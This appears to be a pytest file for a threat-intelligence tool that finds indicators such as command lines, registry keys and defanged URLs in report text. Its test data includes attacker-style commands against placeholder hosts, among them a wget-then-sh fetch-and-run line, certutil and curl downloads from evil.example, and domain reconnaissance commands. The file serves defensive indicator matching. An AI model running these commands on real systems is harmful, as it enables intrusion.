import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ctiforge.observables.locate import (
    FAR_LINEAGE,
    NEAR_LINEAGE,
    REGISTRY_APART,
    Alignment,
    Locator,
    Occurrence,
    Span,
)
from ctiforge.observables.values import normalize


def written(text: str, type_: str, value: str) -> list[str]:
    locator = Locator(text)
    return [locator.as_written(type_, occurrence) for occurrence in locator.locate(type_, value)]


FOUND = [
    ("cmdline", "They ran adfind.exe  -gcb -sc x, then left.", "adfind.exe -gcb -sc x", "adfind.exe  -gcb -sc x"),
    ("cmdline", "ran “C:\\a b\\x.exe” /y.", '"C:\\a b\\x.exe" /y', "“C:\\a b\\x.exe” /y"),
    (
        "cmdline",
        "curl -o a <hxxp://1.2.3[.]4/a> del a",
        "curl -o a hxxp://1.2.3[.]4/a",
        "curl -o a <hxxp://1.2.3[.]4/a>",
    ),
    ("cmdline", 'Line: ("\\/C \\"chcp 1 \\> NUL & netstat \\-afn\\"")', "chcp 1 > NUL & netstat -afn", None),
    ("cmdline", "the command `whoami /all` shows", "whoami /all", "whoami /all"),
    ("cmdline", "They ran tasklist.", "tasklist", "tasklist"),
    ("registry", "under HKCU:\\\\Software\\\\X we", "HKEY_CURRENT_USER\\Software\\X", "HKCU:\\\\Software\\\\X"),
    ("registry", "Key HKLM\\A\\ Tree\\ NAME exists", "HKLM\\A\\Tree\\NAME", "HKLM\\A\\ Tree\\ NAME"),
    ("services", "service named 'WebrootCheck'.", "WebrootCheck", "WebrootCheck"),
    ("services", "HKLM\\System\\Services\\Evil is", "Evil", "Evil"),
    ("scheduled_tasks", "/tn \\Microsoft\\Job /f", "Microsoft\\Job", "Microsoft\\Job"),
    ("scheduled_tasks", "/tn \\Microsoft\\Job /f", "\\Microsoft\\Job", "\\Microsoft\\Job"),
    ("network_indicators", "beacons to evil[.]com.", "evil.com", "evil[.]com"),
    (
        "network_indicators",
        "to hxxps://evil[.]com/x.php?a=1 and",
        "https://evil.com/x.php?a=1",
        "hxxps://evil[.]com/x.php?a=1",
    ),
    ("hunt_queries", "Hunt: Events\n| where A == 'x'\nEnd", "Events | where A == 'x'", "Events\n| where A == 'x'"),
]


@pytest.mark.parametrize(("type_", "text", "value", "expected"), FOUND)
def test_a_value_is_found_as_the_article_writes_it(type_: str, text: str, value: str, expected: str | None) -> None:
    found = written(text, type_, value)

    assert len(found) == 1
    assert normalize(type_, found[0]) == normalize(type_, value)
    assert expected is None or found == [expected]


NOT_THERE = [
    ("cmdline", "mytasklist and tasklist.exe and task-list", "tasklist"),
    ("cmdline", "They ran tasklist /svc and dir & tasklist >> a.txt", "tasklist"),
    ("cmdline", "C:\\Windows\\System32\\tasklist", "tasklist"),
    ("cmdline", "net users", "net user"),
    ("services", "UpdaterSvc2 and my-UpdaterSvc", "UpdaterSvc"),
    ("process_lineage", "xcmd.exe -> notnet.exe", "cmd.exe -> net.exe"),
    ("network_indicators", "notevil.com and evil.com.br and www.evil.com", "evil.com"),
    ("registry", "HKLM\\Software\\Xylophone", "HKLM\\Software\\X"),
    ("cmdline", "anything", ""),
    ("process_lineage", "a.exe -> b.exe -> c.exe", "a.exe"),
]


@pytest.mark.parametrize(("type_", "text", "value"), NOT_THERE)
def test_a_name_inside_a_longer_one_is_no_occurrence(type_: str, text: str, value: str) -> None:
    assert written(text, type_, value) == []


def test_places_where_a_value_stands_alone_win_over_those_inside_something_longer() -> None:
    text = "nltest /domain_trusts /all_trusts\nnltest /domain_trusts\n"

    assert Locator(text).locate("cmdline", "nltest /domain_trusts") == [Occurrence((Span(34, 55),))]
    assert written("nltest /domain_trusts /all_trusts", "cmdline", "nltest /domain_trusts") == ["nltest /domain_trusts"]
    assert len(written("HKLM\\A and HKLM\\A\\B", "registry", "HKLM\\A")) == 1
    assert len(written("evil.com and hxxp://evil.com/x", "network_indicators", "evil.com")) == 1


def test_every_occurrence_in_order_of_appearance() -> None:
    found = Locator("whoami /all; then whoami  /all, and WHOAMI /ALL").locate("cmdline", "whoami /all")

    assert [occurrence.start for occurrence in found] == [0, 18, 36]


def test_a_lineage_has_two_spans_in_either_order() -> None:
    text = "PowerShell was invoked by the WinLogon process"
    found = Locator(text).locate("process_lineage", "winlogon.exe -> powershell.exe")

    assert found == [Occurrence((Span(30, 38), Span(0, 10)))]
    assert (found[0].start, found[0].end) == (0, 38)
    assert written(text, "process_lineage", "winlogon.exe -> powershell.exe") == ["WinLogon -> PowerShell"]


def test_a_lineage_may_stand_in_paths_and_keeps_its_exe() -> None:
    assert written("C:\\Windows\\explorer.exe started C:\\x\\a.exe", "process_lineage", "explorer.exe -> a.exe") == [
        "explorer.exe -> a.exe"
    ]


def test_the_ends_of_a_lineage_lie_within_the_stated_distance() -> None:
    def pair(gap: int) -> list[str]:
        return written("a.exe" + " " * gap + "b.exe", "process_lineage", "a.exe -> b.exe")

    assert pair(NEAR_LINEAGE) == pair(FAR_LINEAGE) == ["a.exe -> b.exe"]
    assert pair(FAR_LINEAGE + 1) == []
    assert len(written("a.exe b.exe" + " " * 200 + "b.exe", "process_lineage", "a.exe -> b.exe")) == 1


def test_a_process_may_be_its_own_parent_only_where_it_stands_twice() -> None:
    assert written("cmd.exe ran", "process_lineage", "cmd.exe -> cmd.exe") == []
    assert written("cmd.exe ran cmd.exe", "process_lineage", "cmd.exe -> cmd.exe")[0] == "cmd.exe -> cmd.exe"


def test_a_key_and_the_name_of_its_value_may_stand_apart() -> None:
    text = "set the value fDenyTS under HKLM\\System\\Terminal Server to 0"
    locator = Locator(text)
    found = locator.locate("registry", "HKLM\\System\\Terminal Server\\fDenyTS")

    assert [locator.as_written("registry", occurrence) for occurrence in found] == [
        "HKLM\\System\\Terminal Server\\fDenyTS"
    ]
    assert len(found[0].spans) == 2
    assert written("fDenyTS" + "." * (REGISTRY_APART + 1) + " HKLM\\A", "registry", "HKLM\\A\\fDenyTS") == []


TOKENS = st.sampled_from(
    [
        *("net", "user", "/domain", "C:\\Temp\\a.exe", '"Domain', 'Admins"', "HKLM\\Software\\X", "<hxxp://a[.]b/c>"),
        *(
            "-enc",
            "“quoted”",
            ">>",
            "|",
            "evil[.]com",
            "\\\\srv\\share",
            "{GUID}",
            "was",
            "run.",
            "a.exe",
            "(x)",
            "cmd",
        ),
    ]
)
GAPS = st.sampled_from([" ", "  ", "\n", "\t", "\u00a0"])


@given(st.lists(st.tuples(TOKENS, GAPS), min_size=1, max_size=14), st.data())
def test_what_is_cut_from_a_text_at_its_spaces_is_found_there_again(
    pieces: list[tuple[str, str]], data: st.DataObject
) -> None:
    text = "".join(token + gap for token, gap in pieces)
    edges = [0]
    for token, gap in pieces:
        edges.append(edges[-1] + len(token) + len(gap))
    first = data.draw(st.integers(0, len(pieces) - 1))
    last = data.draw(st.integers(first, len(pieces) - 1))
    cut = text[edges[first] : edges[last] + len(pieces[last][0])]
    if normalize("hunt_queries", cut) == "":
        return

    found = Locator(text).locate("hunt_queries", cut)

    assert found
    for occurrence in found:
        span = text[occurrence.start : occurrence.end]
        assert normalize("hunt_queries", span) == normalize("hunt_queries", cut)


@given(
    st.text(max_size=120), st.sampled_from(["cmdline", "registry", "services", "process_lineage"]), st.text(max_size=20)
)
def test_spans_always_lie_within_the_text(text: str, type_: str, value: str) -> None:
    for occurrence in Locator(text + " " + value + " " + text).locate(type_, value):
        for span in occurrence.spans:
            assert 0 <= span.start < span.end <= 2 * len(text) + len(value) + 2


def test_the_nearest_passage_is_the_one_that_holds_most_of_a_value_in_whole_words() -> None:
    text = "reg add is common. The actor ran reg add HKCU\\Software\\Run /v upd and left."

    assert Locator(text).nearest("cmdline", "reg add HKCU\\Software\\Run /v update") == (
        "reg add HKCU\\Software\\Run /v upd"
    )
    assert Locator(text).nearest("services", "qqqqqq") is None
    assert Locator("no worry\ncontrol2 was at work").nearest("services", "control3") == "control2"
    assert Locator("winword.exe starts it").nearest("process_lineage", "winword.exe -> cmd.exe") == "winword.exe"


@given(st.text(max_size=200), st.sampled_from(["cmdline", "registry", "services", "process_lineage"]), st.text())
def test_the_nearest_passage_always_stands_in_the_text(text: str, type_: str, value: str) -> None:
    nearest = Locator(text).nearest(type_, value)

    assert nearest is None or nearest in text


# quotes, wraps, continued lines, letters of scripts without spaces, entities, defanging: as real texts have them
ALIGNED = [
    ("cmdline", 'ran "C:\\W\\net.exe" group "Domain Admins"', "C:\\W\\net.exe group 'Domain Admins'", '"?C.*Admins"?'),
    ("cmdline", 'x "C:\\A B\\net.exe" use \\\\h\\s', 'C:\\A B\\net.exe" use \\h\\s', "C:.*s"),
    ("cmdline", "curl http://evil.exam\nple/a/b/c.bin -o x", "curl http://evil.example/a/b/c.bin -o x", "curl.*x"),
    ("cmdline", "certutil ^\n -urlcache ^\n -f http://a.b/c", "certutil -urlcache -f http://a.b/c", "certutil.*c"),
    (
        "cmdline",
        "Get-ADUser `\n -Filter * `\n -Properties *",
        "Get-ADUser -Filter * -Properties *",
        "Get.*Properties \\*",
    ),
    ("cmdline", "wget http://a.b/c.sh \\\n && sh c.sh", "wget http://a.b/c.sh && sh c.sh", "wget.*sh"),
    ("cmdline", "执行whoami /all命令", "whoami /all", "whoami /all"),
    ("cmdline", "공격자는 cmd.exe를 실행", "cmd.exe", "cmd.exe"),
    ("services", "サービスEvilSvcを作成", "EvilSvc", "EvilSvc"),
    ("cmdline", "reg query &#x27;HKLM&#92;A&#x27; &amp;amp; dir", "reg query 'HKLM\\A' & dir", "reg.*dir"),
    ("cmdline", "nltest &ndash;dclist:corp", "nltest -dclist:corp", "nltest.*corp"),
    ("cmdline", "ping ―n 4 \u200eevil\u2063.example", "ping -n 4 evil.example", "ping.*example"),
    ("cmdline", "type re\u0301sume\u0301.txt", "type r\u00e9sum\u00e9.txt", "type.*txt"),
    ("cmdline", "ｎｅｔ ｕｓｅｒ ／ｄｏｍａｉｎ", "net user /domain", "ｎ.*ｎ"),
    ("cmdline", "type con\ufb01g.ini", "type config.ini", "type.*ini"),
    ("cmdline", "echo \\u0041BC \\u2013x", "echo ABC -x", "echo.*x"),
    ("network_indicators", "at h[tt]p://a[.b/c now", "http://a.b/c", "h\\[tt.*c"),
    ("network_indicators", "at meow://a.]b/c now", "http://a.b/c", "meow.*c"),
    ("network_indicators", "at fxp://a.b/c now", "ftp://a.b/c", "fxp.*c"),
    ("registry", "key HKLM/Software/Classes/x set", "HKLM\\Software\\Classes\\x", "HKLM.*x"),
    (
        "registry",
        "key HKLM\\SYSTEM\\ControlSet001\\Services\\x",
        "HKLM\\SYSTEM\\CurrentControlSet\\Services\\x",
        "HKLM.*x",
    ),
    ("registry", "\\REGISTRY\\MACHINE\\SOFTWARE\\x is", "HKLM\\SOFTWARE\\x", ".*x"),
    ("cmdline", "ran nltest /domain_trusts there", "nltest.exe /domain_trusts", "nltest /domain_trusts"),
]


@pytest.mark.parametrize(("type_", "text", "value", "place"), ALIGNED)
def test_a_value_is_placed_through_what_texts_and_models_change(type_: str, text: str, value: str, place: str) -> None:
    (found,) = written(text, type_, value)

    assert re.fullmatch(place, found, re.DOTALL)


@pytest.mark.parametrize(
    ("text", "value", "status", "distance"),
    [
        ("They ran net user /domain.", "net user /domain", Alignment.EXACT, 0),
        ("They ran Net  User /domain.", "net user /domain", Alignment.NORMALIZED, 0),
        ("They ran net user /domain.", 'cmd.exe /c "chcp 65001 > NUL & net user /domain"', Alignment.UNWRAPPED, 0),
        ("They ran net user /domain.", 'C:\\W\\cmd.exe "/c net user /domain"', Alignment.UNWRAPPED, 0),
        (
            "curl -o c:\\programdata\\first.bin http://evil.example/first.bin and",
            "curl -o c:\\programdata\\first.bin http://evil.example/first.bim",
            Alignment.FUZZY,
            1,
        ),
        (
            "curl -o c:\\programdata\\first.bin http://evil.example/first.bin and",
            "curl -o c:\\programdata\\first.bin http://evil.example/first.b",
            Alignment.FUZZY,
            2,
        ),
    ],
)
def test_a_place_says_how_the_value_stands_there(text: str, value: str, status: Alignment, distance: int) -> None:
    (found,) = Locator(text).locate("cmdline", value)

    assert (found.status, found.distance) == (status, distance)


@pytest.mark.parametrize(
    ("type_", "text", "value"),
    [
        ("services", 'It may impart a sense of urgency, \\"Sensei\\" too', "Sense"),
        ("cmdline", "the netuser account", "net user"),
        ("cmdline", "who ami today", "whoami"),
        ("cmdline", "net localgroup administrators", "net localgroup administrator"),
        (
            "cmdline",
            "adfind -f objectcategory=computer -csv name cn system",
            "adfind -f objectcategory=computer -csv name system",
        ),
        ("cmdline", "dir and whoami", 'cmd.exe /c "dir"'),
        ("network_indicators", "evil.example2/a/b", "evil.example/a/b"),
        (
            "cmdline",
            "curl -o c:\\programdata\\first.bin http://evil.example/first.bin",
            "curl -o c:\\programdata\\other.dll http://evil.example/x",
        ),
    ],
)
def test_a_wrong_place_is_worse_than_none(type_: str, text: str, value: str) -> None:
    assert written(text, type_, value) == []


def test_the_exact_case_wins_over_a_word_of_the_language() -> None:
    text = 'They impart a sense of urgency. The service \\"Sense\\" stops.'

    assert written(text, "services", "Sense") == ["Sense"]
    assert Locator(text).locate("services", "Sense")[0].start == text.index("Sense")


def test_what_stands_altered_is_placed_and_yet_does_not_stand() -> None:
    locator = Locator('ran "C:\\W\\net.exe" group "Domain Admins" /domain')

    assert locator.locate("cmdline", "C:\\W\\net.exe group Domain Admins /domain")
    assert not locator.stands("cmdline", "C:\\W\\net.exe group Domain Admins /domain")
    assert locator.stands("cmdline", '"C:\\W\\net.exe" group "Domain Admins"')


def test_five_megabytes_are_searched_in_one_pass_each() -> None:
    text = "x y z " * 830_000 + "\ncurl -o c:\\programdata\\first.bin http://evil.example/first.bin\n"
    found = Locator(text).locate("cmdline", "curl -o c:\\programdata\\first.bin http://evil.example/first.bim")

    assert [each.status for each in found] == [Alignment.FUZZY]
